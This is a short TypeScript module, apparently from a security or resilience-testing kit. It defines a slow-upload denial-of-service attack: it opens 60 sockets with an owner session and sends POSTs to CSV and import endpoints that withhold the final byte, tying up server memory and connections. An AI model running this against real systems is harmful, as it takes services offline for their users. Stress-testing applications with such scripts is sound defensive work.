import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';
import { ownerOf } from '../kit/uploading.js';

let session: readonly string[] = [];

/** All but the last byte comes: the box holds what it has taken until the time of a request is over. */
export const attack: Attack = {
  name: 'sixty files at once that never end',
  async prepare(target) {
    session = await ownerOf(target);
  },
  async run(target) {
    const files = [
      { path: '/web/items/csv', length: 4_000_000 },
      { path: '/web/operations/items.import', length: 1_000_000 },
    ];
    const sockets = await target.many(60);
    const sent = sockets.map(async (socket, at) => {
      const { path, length } = files[at % files.length] ?? { path: '/', length: 0 };
      socket.resume().write(head(`POST ${path}`, ...session, `Content-Length: ${length}`));
      await target.push(socket, Buffer.alloc(length - 1, 0x61));
    });
    await Promise.all(sent);
    await target.wait();
  },
};
